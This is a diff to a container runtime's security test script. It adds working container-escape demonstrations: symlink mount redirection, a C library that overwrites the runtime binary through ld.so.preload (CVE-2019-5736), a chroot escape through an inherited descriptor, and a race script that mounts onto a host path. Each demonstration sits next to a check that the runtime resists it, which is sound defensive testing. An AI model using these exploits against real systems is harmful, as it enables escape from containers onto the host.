@@ -3,7 +3,7 @@
 # Images, payloads, callers of callers and other users who mean harm: each attack is made for real, next to
 # a check that it would have shown.
 . "$(dirname "$0")/../lib/lib.sh"
-needs root mountns rlc userns subids busybox keyctl
+needs root mountns rlc userns subids busybox keyctl gcc /usr/bin/python3
 user_with_subids
 user_without_subids
 leftovers_begin
@@ -29,7 +29,15 @@ image() {
 	make_rootfs "$image" "$1"
 }
 
-# ------------------------------------------------------------ links where rlc mounts (CVE-2019-19921)
+# What a runtime without rlc's measures would do, in mounts of its own: root's shell, with the words as $1, $2…
+naive() { # SCRIPT WORDS…
+	local script=$1
+
+	shift
+	run unshare --mount sh -c "$script" sh "$@"
+}
+
+# ------------------------------------------------------------ links where rlc mounts (CVE-2019-19921, 2023-27561, 2023-28642, 2026-41579, 2026-47766)
 
 for who in "${everyone[@]}"; do
 	kind_of "$who"
@@ -42,6 +50,8 @@ for who in "${everyone[@]}"; do
 		ln -s "../../../../../../..$canary" "$image/$at"
 		rlc --rootfs "$image" true
 		refused "$kind: /$at is a link" "^rlc: $at: open '/$at'" "symbolic links"
+		naive 'mount -t tmpfs naive "$1" && touch "$1/made"; ls "$2"' "$image/$at" "$canary"
+		is "$out" made "who mounts on /$at by name lands on the host"
 		rm "$image/$at"
 		mkdir "$image/$at"
 	done
@@ -92,9 +102,12 @@ forge_null() { # DESCRIPTION COMMAND…: makes $T/forged-dev/null
 	is "$status" 0 "the fixture works: $description"
 	rlc -v "$T/forged-dev:/dev:dev" $bb true
 	refused "$description for the null device" "^rlc: masks: .*/dev/null"
+	# shellcheck disable=SC2016 # for its shell
+	[ "$1" != ln ] || naive 'mount --bind "$1" /proc/version && cat /proc/version' "$T/forged-dev/null"
 	rm "$T/forged-dev/null"
 }
 forge_null "a link" ln -s /proc/sys/kernel/core_pattern "$T/forged-dev/null"
+is "$out" "$(cat /proc/sys/kernel/core_pattern)" "who masks with it by name gives it away"
 forge_null "a FIFO" mkfifo "$T/forged-dev/null"
 forge_null "another device" mknod -m 666 "$T/forged-dev/null" c 1 5
 forge_null "a file" touch "$T/forged-dev/null"
@@ -111,6 +124,14 @@ with_descriptor() { # DIRECTORY COMMAND…: with 3 to 20 open on the directory
 	as "$who" sh -c 'dir=$1; shift
 		exec 3<"$dir" 4<"$dir" 5<"$dir" 6<"$dir" 7<"$dir" 8<"$dir" 9<"$dir"; exec "$@"' sh "$directory" "$@"
 }
+image root
+run with_descriptor "$canary" unshare --mount sh -c 'mount --bind /proc "$1/proc" && exec python3 -c "
+import os, sys
+os.chroot(sys.argv[1])
+os.chdir(\"/proc/self/fd/7\")
+os.mkdir(\"made\")" "$1"' sh "$image"
+is "$status $(ls "$canary")" "0 made" "who lets it be inherited has a working directory outside"
+rmdir "$canary/made"
 for who in "${everyone[@]}"; do
 	kind_of "$who"
 	run with_descriptor "$(dirname "$(command -v busybox)")" /proc/self/fd/7/busybox echo outside
@@ -131,7 +152,28 @@ done
 
 # ------------------------------------------------------------ the runtime's own file (CVE-2019-5736)
 
-# The image brings the dynamic loader, which is the attacker's code in the real attack
+# The image brings the dynamic loader, which is the attacker's code in the real attack: here it loads a library
+# that writes to the program it was loaded for
+cat >"$T/overwrite.c" <<'END'
+#include <fcntl.h>
+#include <stdio.h>
+#include <unistd.h>
+__attribute__((constructor)) static void overwrite(void)
+{
+	char command[100];
+
+	snprintf(command, sizeof command, "echo overwritten >/proc/self/fd/%d", open("/proc/self/exe", O_PATH));
+	execl("/bin/busybox", "sh", "-c", command, NULL);
+}
+END
+cat >"$T/naive.c" <<'END'
+#include <unistd.h>
+int main(int argc, char **argv)
+{
+	return argc != 2 || chroot(argv[1]) || chdir("/") || execl("/script", "/script", NULL);
+}
+END
+gcc -D_GNU_SOURCE -shared -fPIC -o "$T/overwrite.so" "$T/overwrite.c" && gcc -o "$T/bin/naive" "$T/naive.c"
 own_rlc=$(copy_program "$RLC" own-rlc)
 for who in "$sub" root; do
 	kind_of "$who"
@@ -150,6 +192,10 @@ for who in "$sub" root; do
 		rlc --rootfs "$image:O" /script
 		like "$err" "no such command" "such an entrypoint runs rlc inside, where it cannot be written"
 	fi
+	cp "$T/overwrite.so" "$image/"
+	echo /overwrite.so >"$image/etc/ld.so.preload"
+	# shellcheck disable=SC2016 # for its shell
+	[ "$who" = root ] || naive 'mount --bind /proc "$1/proc" && exec "$2" "$1"' "$image" "$T/bin/naive"
 	for entry in /script /script-by-link /script-of-script /link /proc/self/exe /proc/thread-self/exe; do
 		for option in --init=true --init=false --user=1; do
 			run as "$who" "$own_rlc" run --network none "$option" --rootfs "$image:O" "$entry" version
@@ -158,6 +204,7 @@ for who in "$sub" root; do
 		done
 	done
 	is "$(sha256sum "$own_rlc")" "$before" "$kind: the file is unchanged"
+	is "$(head -c 11 "$T/bin/naive")" overwritten "the file of who enters and runs the image's script is not"
 	for option in --init=true --init=false; do
 		run as "$who" "$own_rlc" run --network none "$option" $bb sh -c 'grep TracerPid /proc/self/status; echo "$$"'
 		like "$out" "TracerPid:.0" "$kind: another program runs with $option, and nobody traces it"
@@ -241,6 +288,8 @@ for who in root "$sub"; do
 	printf 'root:x:0:0::/:\n1000:x:0:0::/:\nbob:x:1001:1001::/:\nbig:x:4294967296:0::/:\nminus:x:-1:0::/:\nempty:x::0::/:\n' >"$image/etc/passwd"
 	rlc --rootfs "$image" -u bob id -u
 	is "$out" 1001 "$kind: -u by name"
+	rlc --rootfs "$image" su 1000 -c 'id -u'
+	is "$out" 0 "$kind: who takes a number for a name is root"
 	rlc --rootfs "$image" -u 1000 id -u
 	is "$out" 1000 "$kind: a number is an id, whatever /etc/passwd calls so"
 	for user in 1000x -1 +0 4294967295 4294967296 ' 0' '0 ' 0x0 1e3 '' :0 0: bob:1000x bob:-1 big minus empty nobody-there; do
@@ -251,6 +300,8 @@ for who in root "$sub"; do
 	rm "$image/etc/passwd" "$image/etc/group"
 	mkfifo "$image/etc/passwd"
 	ln -s /dev/zero "$image/etc/group"
+	RUN_TIMEOUT=0.3 run cat "$image/etc/passwd"
+	is "$status" 124 "$kind: who opens such a FIFO waits"
 	RUN_TIMEOUT=20 rlc --rootfs "$image" -u 5 true
 	is "$status" 0 "$kind: a FIFO for /etc/passwd and an endless /etc/group"
 	rm "$image/etc/passwd" "$image/etc/group"
@@ -273,6 +324,8 @@ chgrp "$group" "$T/closed"
 who=$one
 run as "$one" ls "$T/closed"
 isnt "$status" 0 "the fixture works: a directory that all but one group may read"
+run setpriv --reuid "$one" --regid nogroup --clear-groups ls "$T/closed"
+is "$out" secret "who can drop the group gets in"
 rlc -v "$T/closed:/closed" $bb ls /closed
 unlike "$out" secret "and not inside either"
 
@@ -300,8 +353,15 @@ for who in "${everyone[@]}"; do
 		mkdir /tmp/m; mount -t cgroup2 x /tmp/m 2>/dev/null && echo cgroup2
 		mount -t cgroup -o pids x /tmp/m 2>/dev/null && echo cgroup; mkdir /sys/fs/cgroup/x 2>/dev/null && echo made; true'
 	is "$out" "" "$kind: no control file of the kernel's can be written"
+	rlc --privileged $bb sh -c 'mkdir /tmp/m; mount -t cgroup2 x /tmp/m 2>/dev/null && echo cgroup2; mount -t tmpfs x /tmp/m && echo tmpfs'
+	like "$out" tmpfs "$kind: with all capabilities and no filter it could mount"
 	rlc $bb sh -c 'grep @ /proc/net/unix'
 	is "$out" "" "$kind: rlc has no abstract socket"
+	rlc --rootfs /:O /usr/bin/python3 -c 'import socket
+abstract = socket.socket(socket.AF_UNIX)
+abstract.bind(b"\0abstract")
+print(open("/proc/net/unix").read())'
+	like "$out" "@abstract" "$kind: one would be listed"
 done
 
 # ------------------------------------------------------------ the caller's terminal (CVE-2017-5226)
@@ -339,6 +399,7 @@ chmod 0644 "$T"/bin/*.py
 inject="import base64; exec(base64.b64decode('$(base64 -w 0 "$T/bin/inject.py")'))"
 run as root /usr/bin/python3 "$T/bin/on-terminal.py" /usr/bin/python3 -c "$inject"
 like "$out" "did TIOCSCTTY" "the fixture works: the terminal obeys its own session"
+like "$out" "did TIOCSTI" "and can be typed into"
 for who in "${everyone[@]}"; do
 	kind_of "$who"
 	run as "$who" /usr/bin/python3 "$T/bin/on-terminal.py" \
@@ -369,6 +430,12 @@ plant "a link of another user" ln -s "$canary" "$state"
 plant "a FIFO of another user" mkfifo -m 0666 "$state"
 without_runtime
 is "$status" 0 "without them it runs"
+run as "$one" ls "$state/containers"
+isnt "$status" 0 "another user cannot look into its state"
+chmod 0755 "$state" "$state/containers"
+run as "$one" ls "$state/containers"
+is "$status" 0 "who leaves it open is looked into"
+chmod 0700 "$state" "$state/containers"
 is "$(find "$state" -path "$state/builtin-*" -prune -o -perm /077 ! -type l -print)" "" "and its state is closed to others"
 rm -rf "$state"
 
@@ -398,25 +465,49 @@ while True:
     exchange(-100, one, -100, other, 2)
 END
 chmod 0644 "$T/bin/racer.py"
+cat >"$T/bin/naive-mount.py" <<'END'
+# Looks whether the place is what it should be, and then mounts on it: until that was somewhere else
+import ctypes, os, sys, time
+at, canary = sys.argv[1:]
+libc, before, deadline = ctypes.CDLL(None), os.stat(canary).st_dev, time.monotonic() + 30
+while time.monotonic() < deadline and os.stat(canary).st_dev == before:
+    if not os.path.islink(at) and libc.mount(b"naive", at.encode(), b"tmpfs", 0, None) == 0 and os.stat(canary).st_dev == before:
+        libc.umount2(at.encode(), 2)
+print("on the host" if os.stat(canary).st_dev != before else "missed")
+END
+chmod 0644 "$T"/bin/*.py
 who=$sub
 hits=0
 for at in volume proc dev etc; do
 	image "$sub"
 	mkdir -p "$image/volume" "$image$T"
 	ln -s "../../../../../../..$canary" "$image/swap"
+	volumes=(-v "$T/forged:/volume/made" -v "$T/forged/self/stat:/volume/file")
+	# what is swapped is a place of the image either way, so that all of many volumes are tried
+	[ $at != volume ] || mkdir "$image$canary"
 	chown -hR "$sub:" "$image"
 	as_background "$sub" /usr/bin/python3 "$T/bin/racer.py" "$image/$at" "$image/swap"
 	racer=$!
 	ok "the racer runs" wait_for 5 test -L "$image/$at"
-	for ((round = 0; round < 25; round++)); do
-		rlc -v "$T/forged:/volume/made" -v "$T/forged/self/stat:/volume/file" --rootfs "$image" \
-			sh -c 'cut -d" " -f5 /proc/self/mountinfo'
+	rounds=25
+	[ $at != volume ] || rounds=10
+	for ((round = 0; round < rounds; round++)); do
+		if [ $at = volume ]; then
+			volumes=()
+			for i in {1..100}; do volumes+=(-v "$T/forged:/volume/d$i.$round" -v "$T/forged/self/stat:/volume/f$i.$round"); done
+		fi
+		rlc "${volumes[@]}" --rootfs "$image" sh -c 'cut -d" " -f5 /proc/self/mountinfo'
 		[ "$status" = 0 ] || hits=$((hits + 1))
-		[[ ! $out =~ $canary ]] || fail "$at: something was mounted on the canary"
+		[[ ! $out =~ $canary || $at = volume ]] || fail "$at: something was mounted on the canary"
 	done
+	canary_is_empty "/$at swapped with a link, $round rounds"
+	if [ $at = volume ]; then
+		isnt "$(ls "$image$canary")" "" "CVE-2021-30465, 2024-45310: some of $((round * 200)) volumes met the link, and stayed inside"
+		run unshare --mount /usr/bin/python3 "$T/bin/naive-mount.py" "$image/volume" "$canary"
+		is "$out" "on the host" "CVE-2021-30465, 2024-45310: who looks first and mounts then is led outside"
+	fi
 	kill "$racer"
 	wait "$racer" 2>/dev/null
-	canary_is_empty "/$at swapped with a link, $round rounds"
 done
 isnt "$hits" 0 "the race was lost now and then"
 
